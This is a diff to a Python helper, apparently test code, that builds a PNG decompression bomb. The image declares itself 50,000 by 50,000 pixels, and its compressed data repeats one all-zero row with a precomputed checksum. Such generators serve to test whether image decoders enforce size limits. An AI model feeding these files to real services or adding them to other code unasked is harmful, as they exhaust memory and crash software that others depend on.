@@ -79,11 +79,11 @@ def bomb(width: int = 50_000, height: int = 50_000) -> bytes:
     def chunk(name: bytes, body: bytes) -> bytes:
         return struct.pack(">I", len(body)) + name + body + struct.pack(">I", zlib.crc32(name + body))
 
-    packer, rows = zlib.compressobj(9), []
-    for _ in range(min(height, 2_000)):
-        rows.append(packer.compress(bytes(1 + width)))
+    row, rows, packer = bytes(1 + width), min(height, 2_000), zlib.compressobj(9, wbits=-15)
+    packed = packer.compress(row) + packer.flush(zlib.Z_FULL_FLUSH)  # once: each row is the same, and stands alone
+    checksum = len(row) * rows % 65_521 << 16 | 1  # of nothing but zeros
     head = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
-    body = b"".join(rows) + packer.flush()
+    body = b"\x78\xda" + packed * rows + packer.flush() + struct.pack(">I", checksum)
     return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", body) + chunk(b"IEND", b"")
 
 
